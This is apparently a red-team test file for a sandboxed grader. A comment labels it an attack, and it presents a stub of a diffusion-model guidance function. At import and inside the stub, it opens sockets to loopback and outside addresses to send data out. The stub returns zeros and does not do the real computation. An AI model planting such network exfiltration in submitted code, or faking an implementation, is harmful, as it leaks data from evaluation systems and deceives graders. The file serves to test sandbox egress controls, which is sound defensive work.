# Attack: send the inputs (or anything) out over the network: to a listener on the grading machine's
# loopback (the port is filled in by the test) and to the outside world.
import socket
import torch
PORT = {port}

def send(data):
    for host in ("127.0.0.1", "10.0.0.1", "1.1.1.1"):
        try:
            port = PORT if host == "127.0.0.1" else 80
            with socket.create_connection((host, port), timeout=1) as s:
                s.sendall(data)
        except OSError:
            pass

send(b"REDTEAM hello")

# %%
def classifier_free_guidance(eps_uncond, eps_cond, scale):
    send(b"REDTEAM inputs")
    return torch.zeros_like(eps_cond)
